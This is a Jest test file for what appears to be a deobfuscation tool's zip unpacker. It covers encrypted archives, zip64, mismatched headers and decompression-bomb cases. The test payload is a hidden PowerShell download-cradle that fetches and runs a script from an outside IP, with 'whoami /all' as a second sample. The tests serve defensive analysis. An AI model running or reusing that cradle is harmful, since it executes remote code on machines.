import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { flat } from '../peel-many.js';
import { peel } from '../peel.js';
import { PEEL_LIMITS } from '../types.js';
import { zip } from './zip.js';
import { endOf, field, partsOf, u32, u64, zipOf } from './zip.test-helper.js';

const TEXT = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.9/a.ps1\')"';
const run = (archive: Buffer) => peel(`FromBase64String('${archive.toString('base64')}')`, PEEL_LIMITS);
const membersIn = (archive: Buffer) => flat(run(archive).layers).filter(({ encoding }) => encoding.startsWith('zip member'));
const told = (archive: Buffer) => membersIn(archive).map(({ name, text, note }) => [name, text, note]);

const ZIP_CRYPTO = {
  // zip 3.0 with -P infected
  infected: 'UEsDBBQACQAIAKJeeF1YNu2pcgAAAGgAAAAFABwAcy50eHRVVAkAA596BWufegVrdXgLAAEEAAAAAAQAAAAAZDVuSGbSXy/XDQGVwb2Qz6UVTcs3wmAE5NN5Afk4UwFl8GvjtA7CAQUQj/NaXC1kB1fBYcEyWPZhU4Mp1Dg/KlOnge5DU09I4s3IklNq2Oj9d82xnwsxkjQeNkF24kMMlUVSKjNIvOjeKRiJDNYPC0u7UEsHCFg27alyAAAAaAAAAFBLAQIeAxQACQAIAKJeeF1YNu2pcgAAAGgAAAAFABgAAAAAAAEAAACkgQAAAABzLnR4dFVUBQADn3oFa3V4CwABBAAAAAAEAAAAAFBLBQYAAAAAAQABAEsAAADBAAAAAAA=',
  // libarchive 3.6 with zip:encryption=zipcrypt, the check of the password by the time
  password: 'UEsDBBQACQAIAAAAIQAAAAAAAAAAAGgAAAAFABQAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAEDKNLXf0Aai87pXfPPZvVObUdyiljCjxyYY/jpsOhmgg1YUqQvmQs5R2YPdKlqJLIxKP8vqwfB336uElImZpl8hC8iRwjOCXYIeogw+kQwdwtqMlQPcWDTF4180W2kfpOpZv5p92YSRq0hD7rxrRgQR51BLBwhYNu2pcgAAAGgAAABQSwECFAMUAAkACAAAACEAWDbtqXIAAABoAAAABQAUAAAAAAAAAAAApIEAAAAAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAFBLBQYAAAAAAQABAEcAAAC5AAAAAAA=',
} as const;

// libarchive 3.6, each with a descriptor after the data
const AES = {
  // zip:compression=deflate,encryption=aes256: AE-1, with a descriptor
  infected: 'UEsDBBQACQBjAAAAIQAAAAAAAAAAAGgAAAAFAB8AYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAwgANEqFxgLK6vQSl4DjOBNHPKs+YK3MnekzaBOMcCZ8jviAFqMJdr1ZaI+VMxko4PRMFI2zykEeg8JhrTBUZKD8AK7H53O9deZmk7iRFJSOXBQkaaGOc6joY6WfXKBUCn6jz9o8VP6f5REoSZuH3aU7kkdOM5J95csQS5FT93kmvRhWDFBLBwhYNu2pggAAAGgAAABQSwECFAMUAAkAYwAAACEAWDbtqYIAAABoAAAABQAfAAAAAAAAAAAApIEAAAAAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAwgAUEsFBgAAAAABAAEAUgAAANQAAAAAAA==',
  // zip:compression=store,encryption=aes128: AE-1
  virus: 'UEsDBBQACQBjAAAAIQAAAAAAfAAAAGgAAAAFAB8AYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAQAAHGXnSaj46PIqB2E8TqY7E0Vq57Bd848NewNrr4ob4kXOYe1gtecbbHnp5+rB9V0GSh6rA64THKrLyTbtL7zsfKwXWBcs1j8i4ynmCc8dxpoxfu+XVAbM0RLl8LmC7ns0Tnyg/SvfKXcydU6DHMpkhyMrJvFTJAfvp3i4r1BLBwhYNu2pfAAAAGgAAABQSwECFAMUAAkAYwAAACEAWDbtqXwAAABoAAAABQAfAAAAAAAAAAAApIEAAAAAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAQAAUEsFBgAAAAABAAEAUgAAAM4AAAAAAA==',
  // as before, of a text so short that it is AE-2: "whoami /all"
  malware: 'UEsDBBQACQBjAAAAIQAAAAAAHwAAAAsAAAAFAB8AYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwACAEFFAQAAuXkAtUNAow6ac0wkT8P3KUinCWu36mD6ktFL1WM3KVBLBwgAAAAAHwAAAAsAAABQSwECFAMUAAkAYwAAACEAAAAAAB8AAAALAAAABQAfAAAAAAAAAAAApIEAAAAAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwACAEFFAQAAUEsFBgAAAAABAAEAUgAAAHEAAAAAAA==',
} as const;

// zip 3.0 with -X -P hunter2, and libarchive 3.6 with zip:encryption=aes256 and that password
const OTHER = {
  zipCrypto: 'UEsDBBQACQAIAASjeF1YNu2pcgAAAGgAAAAFAAAAcy50eHRVT6angKH3+Mnou5L4MAUV6hy+7BDPHTDp1EmNyf1+U+Ad8IIawWNqzT6FX1T7DGDstXcsljBPn1ClvRULnZ788xBOC7HN+2dc6jJ2bzmboBKLeDhpicPummEa8VBMEJcqGJXFg09ChQrfRQZax1O7KqNQSwcIWDbtqXIAAABoAAAAUEsBAh4DFAAJAAgABKN4XVg27alyAAAAaAAAAAUAAAAAAAAAAQAAAKSBAAAAAHMudHh0UEsFBgAAAAABAAEAMwAAAKUAAAAAAA==',
  aes: 'UEsDBBQACQBjAAAAIQAAAAAAAAAAAGgAAAAFAB8AYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAwgAHG+SRYAzQMub+nrBHM7VAwK4lMJUQjCHZGAg5QVzZRswjfAyElX8SqvQ7jJOxpGjaM5UuiG8LMev/dxrllDWJboklQHdiIvAmklkFhIKyQvkto9CS5P73cI4h3K4nTxxSPezQdQjI9EHT+CKCUZXJNWNMjvvaNr+B3rvd4RilhzQ/1BLBwhYNu2pggAAAGgAAABQSwECFAMUAAkAYwAAACEAWDbtqYIAAABoAAAABQAfAAAAAAAAAAAApIEAAAAAYS5wczFVVAEAAHV4CwABBAAAAAAEAAAAAAGZBwABAEFFAwgAUEsFBgAAAAABAAEAUgAAANQAAAAAAA==',
} as const;

const bytesOf = (base64: string): Buffer => Buffer.from(base64, 'base64');
/** Changes bytes from the last place where they stand, in the directory. */
const changed = (archive: Buffer, from: Buffer, to: Buffer): Buffer => {
  const bytes = Buffer.from(archive);
  const at = bytes.lastIndexOf(from);
  if (at < 0) throw new TypeError('nothing to change');
  to.copy(bytes, at);
  return bytes;
};

describe('usual passwords', () => {
  it.each([...Object.entries(ZIP_CRYPTO), ...Object.entries(AES)])('opens what %s encrypts', (password, base64) => {
    const [member] = membersIn(bytesOf(base64));
    expect(member).toMatchObject({ encoding: `zip member (password ${password})`, text: base64 === AES.malware ? 'whoami /all' : TEXT });
    expect(member?.note).toBeUndefined();
  });

  it('refuses what none of them opens', () => {
    for (const base64 of [OTHER.zipCrypto, OTHER.aes]) {
      const { layers, notes } = run(bytesOf(base64));
      expect(flat(layers).map(({ encoding }) => encoding)).toEqual(['base64']);
      expect(notes).toEqual([expect.stringMatching(/^".*" \(104 bytes\) in a zip archive is encrypted with a password and was not unpacked\.$/)]);
    }
  });

  it('opens what is cut off, and says so', () => {
    const cut = bytesOf(AES.infected).subarray(0, 66 + 18 + 60);
    expect(membersIn(cut)[0]).toMatchObject({ encoding: 'zip member (password infected)', note: expect.stringMatching(/^the stream is cut off/) });
    expect(membersIn(cut)[0]?.text).not.toBe('');
    expect(TEXT.startsWith(membersIn(cut)[0]?.text ?? '-')).toBe(true);
  });

  it('tells of a wrong authentication code', () => {
    const archive = bytesOf(AES.virus);
    archive.writeUInt8((archive[66 + 123] ?? 0) ^ 1, 66 + 123);
    expect(membersIn(archive)[0]).toMatchObject({ text: TEXT, note: 'its authentication code is wrong' });
  });

  it('reads what is only marked as encrypted', () => {
    const marked = zipOf([{ name: 'a', data: TEXT, local: { flags: 1 }, central: { flags: 1 } }]);
    expect(told(marked)).toEqual([['a', TEXT, 'it is marked as encrypted, and is not']]);
  });

  it.each([[124, 1], [125, 0]])('derives keys for %d members that it cannot open and then opens %d', (others, opened) => {
    const extra = field(0x9901, Buffer.from([2, 0, 0x41, 0x45, 1, 0, 0]));
    const lie = { flags: 1, method: 99, extra };
    const part = (name: string, data: Buffer) => ({ name, data, stored: true, local: lie, central: { ...lie } });
    const whoami = bytesOf(AES.malware).subarray(66, 66 + 31);
    const archive = zipOf([...Array.from({ length: others }, (_, at) => part(`${at}`, Buffer.alloc(40, at))), part('last', whoami)]);
    expect(membersIn(archive)).toHaveLength(opened);
    expect(run(archive).notes).toHaveLength(20);
    const few = peel(`FromBase64String('${zipOf([...Array.from({ length: others }, () => part('', Buffer.alloc(40))), part('last', whoami)]).toString('base64')}')`, PEEL_LIMITS).notes;
    expect(few.includes('Encrypted members of a zip archive were left closed: 500 tries of a password are the limit.')).toBe(opened === 0);
  });
});

// Python 3's zipfile with force_zip64, to a file and to a stream that cannot seek
const ZIP64 = {
  'in its headers': 'UEsDBC0AAAAIAAAAYVhYNu2p//////////8FABQAYS5wczEBABAAaAAAAAAAAABmAAAAAAAAAAXBsQ6DIBAA0F+5sKgDh9SprrZDFx0c2lXlIjTkIHIJv+97OVW6iqcYQXPKoCv44Bwx6APU5/2Ddqaql/1Ph8BMgl/apxiIpcNXqhzT5la5Ap9t40XyaMyjH7BHawd8mg1zsU2nblBLAQItAy0AAAAIAAAAYVhYNu2pZgAAAGgAAAAFAAAAAAAAAAAAAACAAQAAAABhLnBzMVBLBQYAAAAAAQABADMAAACdAAAAAAA=',
  'in a descriptor': 'UEsDBC0ACAAIAAAAYVgAAAAA//////////8FABQAYS5wczEBABAAAAAAAAAAAAAAAAAAAAAAAAXBsQ6DIBAA0F+5sKgDh9SprrZDFx0c2lXlIjTkIHIJv+97OVW6iqcYQXPKoCv44Bwx6APU5/2Ddqaql/1Ph8BMgl/apxiIpcNXqhzT5la5Ap9t40XyaMyjH7BHawd8mg1zsU2nblBLBwhYNu2pZgAAAAAAAABoAAAAAAAAAFBLAQItAy0ACAAIAAAAYVhYNu2pZgAAAGgAAAAFAAAAAAAAAAAAAACAAQAAAABhLnBzMVBLBQYAAAAAAQABADMAAAC1AAAAAAA=',
} as const;

describe('zip64', () => {
  it.each(Object.entries(ZIP64))('reads sizes %s', (_where, base64) => {
    const archive = bytesOf(base64);
    expect(told(archive)).toEqual([['a.ps1', TEXT, undefined]]);
    const withoutDirectory = archive.subarray(0, archive.indexOf('PK\u0001\u0002', 0, 'latin1'));
    expect(told(withoutDirectory).map(([name, text]) => [name, text])).toEqual([['a.ps1', TEXT]]);
  });

  const wide = (lead: Buffer, locatorOffset?: number): Buffer => {
    const extra = field(1, u64(TEXT.length, TEXT.length, lead.length));
    const { body, entries } = partsOf([{ name: 'a', data: TEXT, stored: true, central: { packed: 0xffffffff, size: 0xffffffff, offset: 0xffffffff, extra: Buffer.concat([field(0x5455, Buffer.alloc(5)), extra]) } }]);
    const before = Buffer.concat([lead, body, ...entries]);
    const record = Buffer.concat([u32(0x06064b50), u64(44), Buffer.alloc(12), u64(1, 1, before.length - lead.length - body.length, lead.length + body.length)]);
    return Buffer.concat([before, record, u32(0x07064b50, 0), u64(locatorOffset ?? before.length), u32(1), endOf(0xffff, 0xffffffff, 0xffffffff)]);
  };

  it('follows the locator to the record, and this to the directory', () => {
    const lead = zipOf([{ name: 'decoy', data: 'x'.repeat(30), stored: true }]);
    expect(told(wide(lead))).toEqual([['a', TEXT, undefined]]);
  });

  it.each([0, 7, 2 ** 40, 2 ** 53])('falls back on the headers where the locator leads to %d', (offset) => {
    expect(told(wide(Buffer.alloc(0), offset))).toEqual([['a', TEXT, 'the archive has no directory that lists it']]);
  });
});

describe('sizes after the data', () => {
  const signed = { local: { flags: 8, crc: 0, packed: 0, size: 0 }, central: { flags: 8 } };
  const inner = zipOf([{ name: 'inner', data: TEXT }]);
  const descriptors = {
    'with a signature': ({ crc, packed, size }: { crc: number; packed: number; size: number }) => u32(0x08074b50, crc, packed, size),
    'without one': ({ crc, packed, size }: { crc: number; packed: number; size: number }) => u32(crc, packed, size),
    'of eight bytes': ({ crc, packed, size }: { crc: number; packed: number; size: number }) => Buffer.concat([u32(0x08074b50, crc), u64(packed, size)]),
    'of eight bytes without one': ({ crc, packed, size }: { crc: number; packed: number; size: number }) => Buffer.concat([u32(crc), u64(packed, size)]),
  };

  it.each(Object.entries(descriptors))('are read from a descriptor %s, also after an archive that is stored', (_form, after) => {
    const { body, entries } = partsOf([{ name: 'in.zip', data: inner, stored: true, ...signed, after }, { name: 'b', data: TEXT, ...signed, after }]);
    const note = 'the archive has no directory that lists it; its size is that of its descriptor';
    const layers = membersIn(Buffer.concat([body, ...entries]));
    expect(layers.map(({ name, text, note: said }) => [name, text, said])).toEqual([['in.zip', '', note], ['inner', TEXT, undefined], ['b', TEXT, note]]);
    expect(layers[0]?.size).toBe(inner.length);
  });

  it('are those of the directory where there is one', () => {
    expect(told(zipOf([{ name: 'in.zip', data: inner, stored: true, ...signed, after: descriptors['without one'] }]))).toEqual([['in.zip', '', undefined], ['inner', TEXT, undefined]]);
  });

  it('are unknown where a stream is cut off', () => {
    const { body } = partsOf([{ name: 'a', data: TEXT, ...signed }]);
    expect(told(body)).toEqual([['a', TEXT, 'the archive has no directory that lists it, nor a descriptor that tells its size']]);
  });
});

describe('headers that disagree', () => {
  const SAYS = "the archive's directory and the member's own header disagree: ";

  it.each<[string, Parameters<typeof zipOf>[0][number], string]>([
    ['name', { name: 'invoice.pdf', data: TEXT, local: { name: 'invoice.exe' } }, 'name "invoice.pdf" and "invoice.exe"'],
    ['method of its own', { name: 'a', data: TEXT, local: { method: 0 } }, 'method 8 and 0'],
    ['method in the directory', { name: 'a', data: TEXT, central: { method: 4_660 } }, 'method 4,660 and 8'],
    ['mark of encryption', { name: 'a', data: TEXT, central: { flags: 1 } }, 'encrypted yes and no'],
    ['size', { name: 'a', data: TEXT, stored: true, central: { packed: 3, size: 3 } }, 'packed size 3 and 104, size 3 and 104'],
    ['size of its own', { name: 'a', data: TEXT, stored: true, local: { packed: 0, size: 0xfffffffe } }, 'packed size 104 and 0, size 104 and 4,294,967,294'],
  ])('in the %s are told, and the one that fits is followed', (_what, part, differences) => {
    const [member] = membersIn(zipOf([part, { name: 'z', data: 'the next member' }]));
    expect(member).toMatchObject({ name: part.name, text: TEXT });
    expect(member?.note).toContain(SAYS + differences);
  });

  it('are no reason to trust sizes and check numbers that both lie about', () => {
    expect(told(zipOf([{ name: 'a', data: TEXT, local: { size: 9 }, central: { size: 9 } }]))).toEqual([['a', TEXT, 'it has 104 bytes, its header says 9']]);
    expect(told(zipOf([{ name: 'a', data: TEXT, local: { crc: 9 }, central: { crc: 9 } }]))).toEqual([['a', TEXT, 'its check number (CRC-32) is wrong']]);
  });
});

describe('hostile archives', () => {
  const RUNS_OVER = 'A member of a zip archive runs into others (a decompression bomb?) or over its end, and was not unpacked.';

  it('counts members at the same place once', () => {
    const { body, entries } = partsOf([{ name: 'a', data: TEXT }]);
    const directory = Buffer.concat(Array.from({ length: 1_501 }, () => entries).flat());
    const notes = told(Buffer.concat([body, directory, endOf(1_501, directory.length, body.length)]));
    expect(notes).toEqual([['a', TEXT, '1,500 other members of the archive are said to lie at the same place (a decompression bomb?)']]);
  });

  it('ends members that run over the others where these begin', () => {
    const kernel = { name: 'kernel', data: Buffer.alloc(200_000) };
    const parts = [...Array.from({ length: 300 }, (_, at) => ({ name: `${at}`, data: '', stored: true })), kernel];
    const { body } = partsOf(parts);
    const over = partsOf(parts.map((part, at) => (part === kernel ? part : { ...part, central: { method: 8, packed: body.length - at * 33, size: 200_000 }, local: { method: 8, packed: body.length - at * 33, size: 200_000 } })));
    const directory = Buffer.concat(over.entries);
    const { layers, notes } = run(Buffer.concat([over.body, directory, endOf(301, directory.length, over.body.length)]));
    expect(flat(layers).map(({ name, size }) => [name, size])).toEqual([[undefined, expect.any(Number)], ['kernel', 200_000]]);
    expect(notes).toEqual([RUNS_OVER]);
  });

  it('tells of a member that runs over others', () => {
    const long = { packed: 5_000, size: 200_000, method: 8 };
    const archive = zipOf([{ name: 'over', data: 'no deflate', stored: true, local: long, central: long }, { name: 'b', data: TEXT }]);
    expect(told(archive)).toEqual([['b', TEXT, undefined]]);
    expect(run(archive).notes).toEqual([RUNS_OVER]);
  });

  it('does not believe in four gigabytes, nor in more', () => {
    const claim = { packed: 0xfffffffe, size: 0xfffffffe };
    expect(told(zipOf([{ name: 'a', data: TEXT, stored: true, local: claim, central: claim }]))[0]?.[2]).toMatch(/^it has \d+ bytes, its header says 4,294,967,294$/);
    const extra = field(1, u64(2 ** 62, 2 ** 62));
    const wide = { packed: 0xffffffff, size: 0xffffffff, extra };
    expect(told(zipOf([{ name: 'a', data: TEXT, local: wide, central: wide }]))).toEqual([['a', TEXT, expect.stringMatching(/^it has 104 bytes, its header says/)]]);
  });

  it('keeps to its limits with thousands of members', () => {
    const { layers, notes } = run(zipOf(Array.from({ length: 4_000 }, (_, at) => ({ name: `${at}.txt`, data: `number ${at}`, stored: true }))));
    expect(flat(layers)).toHaveLength(PEEL_LIMITS.layers);
    expect(notes).toEqual(['It stopped after 200 layers.']);
  });

  it('tells of members beyond those that it reads', () => {
    const empty = Array.from({ length: 2_001 }, (_, at) => ({ name: `${at}`, data: '', stored: true }));
    expect(run(zipOf(empty)).notes).toEqual(['Of a zip archive, only the first 2,000 members were read.']);
    expect(run(zipOf(empty.slice(0, 1_999))).notes).toEqual([]);
  });

  it.each(Object.entries({ ...AES, ...ZIP64, zipCrypto: ZIP_CRYPTO.infected }))('survives any damage to %s', (_name, base64) => {
    const whole = bytesOf(base64);
    fc.assert(fc.property(fc.nat(whole.length), fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { maxLength: 4 }), (length, changes) => {
      const bytes = Buffer.from(whole.subarray(0, length));
      for (const [at, value] of changes) if (at < bytes.length) bytes[at] = value;
      for (const { offset, length: taken, unpack } of zip.find(bytes)) {
        expect(offset >= 0 && taken >= 0).toBe(true);
        const made = unpack?.(bytes.subarray(offset, offset + taken), 10_000) ?? null;
        expect(made === null || !('bytes' in made) || made.bytes.length <= 10_000).toBe(true);
      }
    }), { numRuns: 100 });
  });

  it('reads a directory whose extra fields run over their ends', () => {
    const extra = Buffer.concat([Buffer.from([1, 0, 0xff, 0xff]), Buffer.alloc(3)]);
    const lie = { packed: 0xffffffff, size: 0xffffffff, extra };
    expect(told(zipOf([{ name: 'a', data: TEXT, central: lie }]))[0]?.slice(0, 2)).toEqual(['a', TEXT]);
    expect(told(changed(zipOf([{ name: 'a', data: TEXT }]), Buffer.from('a'), Buffer.from('b')))[0]?.[2]).toMatch(/name "b" and "a"$/);
  });
});
